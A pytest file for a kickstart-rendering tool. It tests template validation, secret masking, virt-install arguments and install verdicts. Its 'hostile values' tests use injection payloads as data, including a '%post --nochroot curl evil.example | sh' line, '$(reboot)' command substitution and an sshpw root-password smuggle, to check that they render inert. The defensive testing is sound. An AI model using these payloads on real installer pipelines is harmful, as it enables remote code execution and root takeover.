"""Rendering and validating kickstarts: the reference recipe, broken templates, secrets."""

from __future__ import annotations

import dataclasses
import fnmatch
import json
import re
import shlex
from pathlib import Path
from types import SimpleNamespace

import pytest
from pykickstart.constants import KS_SCRIPT_POST, KS_SHUTDOWN
from pykickstart.parser import KickstartParser
from pykickstart.version import makeVersion
from standin import REPO_ROOT, recipe_copy

from builder.console import Outcome, Watch
from builder.errors import BuildError, RecipeError
from builder.methods.kickstart import (
    judge_outcome,
    kernel_args,
    parse_packages,
    virt_install_command,
)
from builder.recipe import Recipe, RecipeBook
from builder.render import MARKERS, mask_secrets, render_kickstart

HASH = "$6$kickgate$Qm9vYmFyQmF6cXV4UXV1eFF1dXhRdXV4UXV1eFF1dXhRdXV4UXV1eFF1dXhRdXV4UXV1eA1"
URL = "https://mirror.example/rocky/9/BaseOS/x86_64/os/"


@pytest.fixture
def el9(tmp_path: Path) -> Recipe:
    return recipe_copy(tmp_path, URL)


def reload(recipe: Recipe) -> Recipe:
    return RecipeBook(recipe.dir.parent.parent).load(recipe.name)


def edit_template(recipe: Recipe, old: str, new: str) -> Recipe:
    assert recipe.kickstart is not None
    path = recipe.kickstart.template
    text = path.read_text()
    assert text.count(old) == 1, old
    path.write_text(text.replace(old, new))
    return reload(recipe)


def template_line(recipe: Recipe, needle: str) -> int:
    assert recipe.kickstart is not None
    lines = recipe.kickstart.template.read_text().splitlines()
    hits = [i for i, line in enumerate(lines, 1) if needle in line]
    assert len(hits) == 1, (needle, hits)
    return hits[0]


def parse(text: str):  # type: ignore[no-untyped-def]
    parser = KickstartParser(makeVersion("RHEL9"))
    parser.readKickstartFromString(text)
    return parser.handler


# --------------------------------------------------------------------------- the reference recipe


def test_reference_recipe_loads_from_the_repository() -> None:
    recipe = RecipeBook(REPO_ROOT).load("generic-dev-el9")
    assert recipe.method == "kickstart" and recipe.family == "rhel"
    assert recipe.kickstart is not None and recipe.kickstart.version == "RHEL9"
    assert recipe.kickstart.location.startswith("https://")
    assert recipe.vm.memory_mib == 2048
    assert [s.namespace for s in recipe.scripts] == sorted(s.namespace for s in recipe.scripts)
    node = {s.name for s in recipe.scripts if s.namespace == "node"}
    assert {"sudoers.sh", "dnf-cleanup.sh"} <= node


def test_reference_kickstart_passes_pykickstart() -> None:
    recipe = RecipeBook(REPO_ROOT).load("generic-dev-el9")
    text = render_kickstart(recipe, env={})
    handler = parse(text)
    assert handler.reboot.action == KS_SHUTDOWN  # poweroff
    assert handler.displaymode.displayMode is not None  # cmdline
    assert "cmdline" in text.splitlines()
    # No swap anywhere: one XFS root that grows.
    parts = handler.partition.partitions
    assert not [p for p in parts if p.mountpoint == "swap" or p.fstype == "swap"]
    roots = [p for p in handler.partition.partitions if p.mountpoint == "/"]
    assert len(roots) == 1 and roots[0].fstype == "xfs" and roots[0].grow
    assert handler.rootpw.lock and not handler.rootpw.password
    # One logged %post per script, common first then node, then kickgate's report with the marker.
    posts = [s for s in handler.scripts if s.type == KS_SCRIPT_POST and s.inChroot]
    assert len(posts) == len(recipe.scripts) + 1
    for script, post in zip(recipe.scripts, posts, strict=False):
        stem = Path(script.name).stem
        assert post.logfile == f"/root/kickgate-post-{script.namespace}-{stem}.log"
        assert post.errorOnFail
        assert script.path.read_text().strip() in post.script
        assert "export IMAGE_NAME=generic-dev-el9" in post.script
    last = posts[-1]
    assert MARKERS.ok in last.script and "/dev/ttyS0" in last.script
    assert last.script.rstrip().splitlines()[-1].startswith(f'echo "{MARKERS.ok}')
    assert MARKERS.pkgs_begin in last.script and MARKERS.pkg in last.script


def test_rootpw_comes_from_the_environment_and_is_masked(el9: Recipe) -> None:
    env = {"KICKGATE_ROOTPW_HASH": HASH}
    text = render_kickstart(el9, env=env)
    assert f"rootpw --iscrypted {HASH}" in text
    assert parse(text).rootpw.isCrypted
    masked = mask_secrets(text, env)
    assert HASH not in masked and "rootpw --iscrypted ********" in masked
    # Even without knowing the value, whatever follows rootpw is masked.
    assert HASH not in mask_secrets(text, {})


def test_plain_text_root_password_is_refused_without_showing_it(el9: Recipe) -> None:
    with pytest.raises(RecipeError) as exc:
        render_kickstart(el9, env={"KICKGATE_ROOTPW_HASH": "hunter2-plain"})
    assert "KICKGATE_ROOTPW_HASH" in str(exc.value) and "hunter2" not in str(exc.value)


def test_mask_secrets_patterns() -> None:
    text = ("user --name=dev --password=s3cret --iscrypted\n"
            "bootloader --iscrypted --password grub.pbkdf2.sha512.10000.ABC\n"
            "sshpw --username=root topsecret\n"
            "part / --fstype=xfs --grow\n"
            "echo KICKGATE_SECRET value=abcd1234\n")
    out = mask_secrets(text, {"KICKGATE_SECRET_TOKEN": "abcd1234"})
    for secret in ("s3cret", "grub.pbkdf2", "topsecret", "abcd1234"):
        assert secret not in out
    assert "part / --fstype=xfs --grow" in out


def test_secret_variables_from_environment(el9: Recipe) -> None:
    el9 = edit_template(el9, "skipx\n", "skipx\n# token {{ secrets.token }}\n")
    text = render_kickstart(el9, env={"KICKGATE_SECRET_TOKEN": "tok-123456"})
    assert "# token tok-123456" in text
    assert "tok-123456" not in mask_secrets(text, {"KICKGATE_SECRET_TOKEN": "tok-123456"})


# --------------------------------------------------------------------------- broken templates


@pytest.mark.parametrize(
    ("old", "new", "needle", "message"),
    [
        ("skipx\n", "skipx\nfrobnicate --now\n", "frobnicate --now", "Unknown command: frobnicate"),
        ("selinux --enforcing\n", "selinux --enforcing --sideways\n", "--sideways", "--sideways"),
        ("lang {{ lang }}\n", "lang {{ no_such_variable }}\n", "no_such_variable",
         "'no_such_variable' is undefined"),
        ("firstboot --disable\n", "firstboot --disable\n{% if %}\n", "{% if %}",
         "template syntax error"),
    ],
    ids=["unknown-command", "bad-option", "undefined-variable", "jinja-syntax"],
)
def test_broken_template_names_file_and_line(el9: Recipe, old: str, new: str, needle: str,
                                             message: str) -> None:
    el9 = edit_template(el9, old, new)
    assert el9.kickstart is not None
    with pytest.raises(RecipeError) as exc:
        render_kickstart(el9, env={})
    err = exc.value
    assert err.path == str(el9.kickstart.template)
    assert err.where == f"line {template_line(el9, needle)}"
    assert message in str(err)
    assert "generic-dev-el9.ks.j2" in str(err)


def test_unclosed_post_points_at_its_opening_line(el9: Recipe) -> None:
    # The last %post loses its %end: pykickstart complains at the end of the file; the error
    # names the template line that opened the section.
    assert el9.kickstart is not None
    template = el9.kickstart.template
    text = template.read_text()
    head, _, tail = text.rpartition("%end")
    template.write_text(head + tail)
    with pytest.raises(RecipeError) as exc:
        render_kickstart(reload(el9), env={})
    assert exc.value.path == str(template)
    assert exc.value.where == f"line {template_line(el9, '--log=/root/kickgate-post-report.log')}"
    assert "does not end with %end" in str(exc.value)


def test_unclosed_script_post_maps_to_the_loop_line(el9: Recipe) -> None:
    el9 = edit_template(el9, "{{ s.text }}\n%end\n", "{{ s.text }}\n")
    with pytest.raises(RecipeError) as exc:
        render_kickstart(el9, env={})
    assert exc.value.where == f"line {template_line(el9, '%post --erroronfail --interpreter')}"
    assert "rendered line" in str(exc.value)


def test_unmappable_line_says_rendered_line(el9: Recipe) -> None:
    # The whole bad line comes from a variable: no template line matches it literally.
    el9 = edit_template(el9, "skipx\n", "{{ bad }}\n")
    toml = el9.path.read_text().replace("[vars]\n", '[vars]\nbad = "wibble --x"\n')
    el9.path.write_text(toml)
    with pytest.raises(RecipeError) as exc:
        render_kickstart(reload(el9), env={})
    assert exc.value.where.startswith("rendered line ")
    assert "'wibble --x'" in str(exc.value) and "Unknown command: wibble" in str(exc.value)


def test_script_line_starting_with_percent_is_refused(el9: Recipe) -> None:
    node = el9.dir / "scripts" / "node" / "sudoers.sh"
    node.write_text(node.read_text() + "%end\n")
    with pytest.raises(RecipeError) as exc:
        render_kickstart(reload(el9), env={})
    assert exc.value.path == str(node)
    assert exc.value.where == f"line {len(node.read_text().splitlines())}"


def test_kickstart_must_power_off(el9: Recipe) -> None:
    el9 = edit_template(el9, "\npoweroff\n", "\n")
    with pytest.raises(RecipeError, match="poweroff"):
        render_kickstart(el9, env={})


def test_last_post_must_print_the_marker(el9: Recipe) -> None:
    el9 = edit_template(el9, 'echo "{{ markers.ok }} {{ image }}" | tee /dev/ttyS0\n', "true\n")
    with pytest.raises(RecipeError, match=MARKERS.ok):
        render_kickstart(el9, env={})


def test_unknown_kickstart_version(el9: Recipe) -> None:
    el9.path.write_text(el9.path.read_text().replace('version = "RHEL9"', 'version = "RHEL99"'))
    with pytest.raises(RecipeError) as exc:
        render_kickstart(reload(el9), env={})
    assert exc.value.path == str(el9.path) and "kickstart.version" in exc.value.where


def test_reserved_variable_names(el9: Recipe) -> None:
    el9.path.write_text(el9.path.read_text().replace("[vars]\n", '[vars]\nscripts = "x"\n'))
    with pytest.raises(RecipeError, match="set by kickgate"):
        render_kickstart(reload(el9), env={})


# --------------------------------------------------------------------------- command lines


def test_kernel_args(el9: Recipe) -> None:
    args = kernel_args(el9, URL)
    assert args[:5] == ["inst.ks=file:/ks.cfg", f"inst.repo={URL}", "inst.text",
                        "console=ttyS0,115200", "inst.cmdline"]


def test_kernel_args_keep_a_repo_from_extra_args(tmp_path: Path) -> None:
    recipe = recipe_copy(tmp_path, URL, extra_args=("inst.repo=nfs:server:/tree", "ip=dhcp"))
    args = kernel_args(recipe, URL)
    assert [a for a in args if a.startswith("inst.repo=")] == ["inst.repo=nfs:server:/tree"]
    assert args[-1] == "ip=dhcp"


def test_virt_install_command(el9: Recipe) -> None:
    argv = virt_install_command(el9)
    assert argv[0] == "virt-install"
    opts = dict(zip(argv[1::2], argv[2::2], strict=False))
    assert argv[argv.index("--location") + 1] == URL
    assert argv[argv.index("--initrd-inject") + 1] == "ks.cfg"
    extra = shlex.split(argv[argv.index("--extra-args") + 1])
    assert "inst.ks=file:/ks.cfg" in extra and f"inst.repo={URL}" in extra
    assert "console=ttyS0,115200" in extra
    assert "size=6," in argv[argv.index("--disk") + 1]
    assert opts.get("--memory") == "512" and argv[argv.index("--vcpus") + 1] == "1"
    assert argv[argv.index("--os-variant") + 1] == "rhel9.0"
    assert argv[argv.index("--graphics") + 1] == "none"
    assert "--noreboot" in argv and "--wait" in argv


def test_virt_install_command_local_tree_needs_http(el9: Recipe, tmp_path: Path) -> None:
    tree = tmp_path / "tree"
    tree.mkdir()
    with pytest.raises(RecipeError, match="HTTP"):
        virt_install_command(el9, str(tree))


def test_virt_install_command_iso_uses_cdrom(el9: Recipe, tmp_path: Path) -> None:
    iso = tmp_path / "dvd.iso"
    iso.write_bytes(b"\0" * 4096)
    argv = virt_install_command(el9, str(iso))
    assert argv[argv.index("--location") + 1] == str(iso)
    assert "inst.repo=cdrom" in argv[argv.index("--extra-args") + 1]


def test_parse_packages() -> None:
    serial = "\n".join([
        "[  1.0] noise", "KICKGATE-PKGS-BEGIN",
        "KICKGATE-PKG bash 0:5.1.8-9.el9 x86_64 bash-5.1.8-9.el9.src.rpm GPLv3+",
        "[  2.0] kernel: interleaved",
        "KICKGATE-PKG zlib 0:1.2.11-40.el9 x86_64 zlib-1.2.11-40.el9.src.rpm zlib and Boost\r",
        "not a package line", "KICKGATE-PKGS-END",
        "KICKGATE-PKG outside 0:1-1 x86_64 outside-1-1.src.rpm MIT",
        f"{MARKERS.ok} x"])
    packages = parse_packages(serial)
    assert [(p.name, p.version, p.arch, p.source, p.licences) for p in packages] == [
        ("bash", "5.1.8-9.el9", "x86_64", "bash", ("GPLv3+",)),
        ("zlib", "1.2.11-40.el9", "x86_64", "zlib", ("zlib and Boost",))]
    assert parse_packages("nothing here") == ()


def test_the_template_prints_what_parse_packages_reads(el9: Recipe) -> None:
    """The rendered kickstart's rpm query and the parser agree on the line format."""
    text = render_kickstart(el9)
    query = next(line for line in text.splitlines() if "rpm -qa --qf" in line)
    fmt = shlex.split(query.split("--qf", 1)[1].split("|", 1)[0])[0]
    # What rpm would print for one package with that format:
    fields = {"%{NAME}": "bash", "%{EPOCHNUM}": "0", "%{VERSION}": "5.1.8", "%{RELEASE}": "9.el9",
              "%{ARCH}": "x86_64", "%{SOURCERPM}": "bash-5.1.8-9.el9.src.rpm", "%{LICENSE}": "GPLv3+", "\\n": ""}
    line = fmt
    for tag, value in fields.items():
        line = line.replace(tag, value)
    serial = f"{MARKERS.pkgs_begin}\n{line}\n{MARKERS.pkgs_end}\n"
    assert [(p.name, p.version) for p in parse_packages(serial)] == [("bash", "5.1.8-9.el9")]


# --------------------------------------------------------------------------- install verdicts


def _judge(el9: Recipe, tmp_path: Path, outcome: Outcome, serial: str,
           seen: set[str] | None = None) -> BuildError | None:
    log = tmp_path / "serial.log"
    log.write_text(serial)
    w = Watch(log)
    w.poll()
    w.seen = seen or set()
    ctx = SimpleNamespace(recipe=el9, serial_log=log)
    try:
        judge_outcome(ctx, outcome, w)  # type: ignore[arg-type]
    except BuildError as exc:
        return exc
    return None


def test_verdict_marker_in_the_last_lines_counts(el9: Recipe, tmp_path: Path) -> None:
    # The follower may see the last lines only after the domain is gone: the log file decides.
    assert _judge(el9, tmp_path, Outcome.POWERED_OFF, f"x\n{MARKERS.ok} img\n") is None


def test_verdict_powered_off_without_marker(el9: Recipe, tmp_path: Path) -> None:
    err = _judge(el9, tmp_path, Outcome.POWERED_OFF, "anaconda: something\n")
    assert err is not None and err.stage == "install"
    assert "without printing KICKGATE-INSTALL-OK" in err.reason
    assert err.serial_tail == ["anaconda: something"]


def test_verdict_timeout_after_marker_asks_for_poweroff(el9: Recipe, tmp_path: Path) -> None:
    err = _judge(el9, tmp_path, Outcome.TIMEOUT, f"{MARKERS.ok} x\n", {MARKERS.ok})
    assert err is not None and "hard timeout" in err.reason and "poweroff" in err.reason
    assert str(el9.vm.build_timeout_s) in err.reason


def test_verdict_tail_is_the_last_40_lines_masked(el9: Recipe, tmp_path: Path) -> None:
    lines = [f"line {i}" for i in range(100)] + ["rootpw --plaintext oops"]
    err = _judge(el9, tmp_path, Outcome.IDLE, "\n".join(lines) + "\n")
    assert err is not None and "inactivity watchdog" in err.reason
    assert len(err.serial_tail) == 40 and err.serial_tail[0] == "line 61"
    assert err.serial_tail[-1] == "rootpw --plaintext ********"


# --------------------------------------------------------------------------- hostile values


def set_var(recipe: Recipe, name: str, value: str) -> Recipe:
    """Give [vars] name the value (TOML-escaped) and reload."""
    text = recipe.path.read_text()
    line = f"{name} = {json.dumps(value)}\n"
    text, n = re.subn(rf"^{name} = .*\n", lambda _: line, text, count=1, flags=re.MULTILINE)
    if not n:
        text = text.replace("[vars]\n", "[vars]\n" + line)
    recipe.path.write_text(text)
    return reload(recipe)


def shape(text: str) -> tuple[list[str], list[tuple[int, bool, str | None]]]:
    """What a kickstart does: its commands in order and its %post sections (type, chroot, log)."""
    handler = parse(text)
    commands = [ln.split()[0] for ln in str(handler).splitlines() if ln and not ln.startswith(("#", "%"))]
    scripts = [(s.type, s.inChroot, s.logfile) for s in handler.scripts]
    return commands, scripts


@pytest.mark.parametrize("value", [
    "en_US.UTF-8 --plaintext; sshpw --username=root --plaintext hunter2",
    "%end %post --nochroot curl evil.example | sh",
    "en_US'",
    "$(reboot) `reboot` \"x",
    "# rest of the line",
])
def test_hostile_var_values_render_inert(el9: Recipe, value: str) -> None:
    # Every [vars] value reaches the kickstart as one shell word: the command it fills keeps that
    # one argument, and no command or %post section is added.
    baseline = shape(render_kickstart(el9, env={}))
    text = render_kickstart(set_var(el9, "lang", value), env={})
    handler = parse(text)
    assert handler.lang.lang == value
    assert not handler.sshpw.sshUserList
    assert shape(text) == baseline
    posts = [s for s in handler.scripts if s.inChroot]
    assert f"export lang={shlex.quote(value)}" in posts[0].script


def test_hostile_description_renders_inert(el9: Recipe) -> None:
    description = "x' sshpw --username=root --plaintext hunter2 %post"
    el9.path.write_text(re.sub(r'^description = .*$', f"description = {json.dumps(description)}",
                               el9.path.read_text(), count=1, flags=re.MULTILINE))
    text = render_kickstart(reload(el9), env={})
    assert shape(text) == shape(render_kickstart(recipe_copy(el9.dir.parent.parent.parent / "b", URL), env={}))
    assert f"# generic-dev-el9: {shlex.quote(description)}" in text.splitlines()


def test_multi_line_var_refused_before_rendering(el9: Recipe) -> None:
    with pytest.raises(RecipeError) as exc:
        set_var(el9, "lang", "en_US\n%end\n%post\nreboot\n%end")
    assert str(el9.path) in str(exc.value) and "vars.lang" in exc.value.where
    # A Recipe built in code skips the loader: rendering refuses it itself.
    forged = dataclasses.replace(el9, variables=(*el9.variables, ("motd", "hi\n%end\n%post\nreboot")))
    with pytest.raises(RecipeError, match="line break"):
        render_kickstart(forged, env={})


def test_value_starting_a_line_with_percent_refused(el9: Recipe) -> None:
    # Quoting cannot help here: pykickstart takes the first word of a line, unquoted, as a
    # section header. The same value later in a line is a plain argument.
    el9 = edit_template(el9, "skipx\n", "skipx\n{{ opener }}\n")
    with pytest.raises(RecipeError) as exc:
        render_kickstart(set_var(el9, "opener", "%post"), env={})
    assert exc.value.path == str(el9.kickstart.template) if el9.kickstart else False
    assert "section header" in str(exc.value)
    el9 = edit_template(el9, "{{ opener }}\n", "# {{ opener }}\n")
    text = render_kickstart(reload(el9), env={})
    assert "# %post" in text.splitlines()


def test_secret_with_line_break_refused_without_showing_it(el9: Recipe) -> None:
    el9 = edit_template(el9, "skipx\n", "skipx\n# {{ secrets.token }}\n")
    with pytest.raises(RecipeError) as exc:
        render_kickstart(el9, env={"KICKGATE_SECRET_TOKEN": "s3cret-part\nsshpw --plaintext"})
    assert "s3cret-part" not in str(exc.value) and "line break" in str(exc.value)


def test_open_quote_in_template_is_a_recipe_error_with_its_line(el9: Recipe) -> None:
    # shlex's ValueError from inside pykickstart, not a traceback.
    el9 = edit_template(el9, "skipx\n", "skipx\nfirstboot --disable 'oops\n")
    assert el9.kickstart is not None
    with pytest.raises(RecipeError) as exc:
        render_kickstart(el9, env={})
    assert exc.value.path == str(el9.kickstart.template)
    assert exc.value.where == f"line {template_line(el9, chr(39) + 'oops')}"
    assert "No closing quotation" in str(exc.value)


# --------------------------------------------------------------------------- no secrets left behind


def test_last_post_removes_kickstart_copies_and_logs_before_the_marker(el9: Recipe) -> None:
    env = {"KICKGATE_ROOTPW_HASH": HASH, "KICKGATE_SECRET_TOKEN": "tok-123456"}
    handler = parse(render_kickstart(el9, env=env))
    posts = [s for s in handler.scripts if s.type == KS_SCRIPT_POST]
    last = posts[-1]
    assert last.inChroot
    lines = last.script.splitlines()
    marker = next(i for i, ln in enumerate(lines) if MARKERS.ok in ln)
    removed = {w for ln in lines[:marker] if ln.split()[:1] == ["rm"] for w in ln.split()[1:]}
    assert {"/root/anaconda-ks.cfg", "/root/original-ks.cfg", "/root/initial-setup-ks.cfg",
            "/root/kickgate-post-*.log"} <= removed
    # Every per-script log is matched by the removed pattern.
    logs = [s.logfile for s in posts if s.logfile]
    assert logs and all(fnmatch.fnmatch(log, "/root/kickgate-post-*.log") for log in logs)
    # Anaconda copies the input kickstart and its logs after the last %post unless flagged not to.
    flags = [s for s in posts if not s.inChroot]
    assert len(flags) == 1 and posts.index(flags[0]) < len(posts) - 1
    assert "/tmp/NOSAVE_INPUT_KS" in flags[0].script and "/tmp/NOSAVE_LOGS" in flags[0].script


@pytest.mark.parametrize("kept", ["/root/anaconda-ks.cfg", "/root/kickgate-post-*.log"])
def test_kickstart_that_keeps_its_copies_is_refused(el9: Recipe, kept: str) -> None:
    assert el9.kickstart is not None
    template = el9.kickstart.template
    text = template.read_text()
    line = next(ln for ln in text.splitlines() if ln.startswith("rm -f") and kept in ln)
    template.write_text(text.replace(line + "\n", line.replace(" " + kept, "") + "\n" if line != f"rm -f {kept}"
                                     else ""))
    with pytest.raises(RecipeError) as exc:
        render_kickstart(reload(el9), env={})
    assert kept in str(exc.value) and exc.value.path == str(template)


# --------------------------------------------------------------------------- credentials in URLs


def test_a_repository_with_credentials_stays_off_the_kernel_command_line(el9: Recipe) -> None:
    from builder.installsource import mask_url
    from builder.methods.kickstart import url_command

    repo = "https://builder:s3cret-pw@mirror.example/rocky/9/BaseOS/x86_64/os/"
    args = " ".join(kernel_args(el9, repo))
    assert "s3cret-pw" not in args and "inst.repo=" not in args
    assert "inst.repo=https://mirror.example/os/" in " ".join(kernel_args(el9, "https://mirror.example/os/"))
    # The installer gets it from the injected kickstart instead, which pykickstart still accepts.
    text = url_command(repo) + render_kickstart(el9)
    handler = makeVersion(el9.kickstart.version)  # type: ignore[union-attr]
    KickstartParser(handler).readKickstartFromString(text)
    assert handler.url.url == repo
    assert mask_url(repo) == "https://***@mirror.example/rocky/9/BaseOS/x86_64/os/"
    assert mask_url("https://mirror.example/os/") == "https://mirror.example/os/"
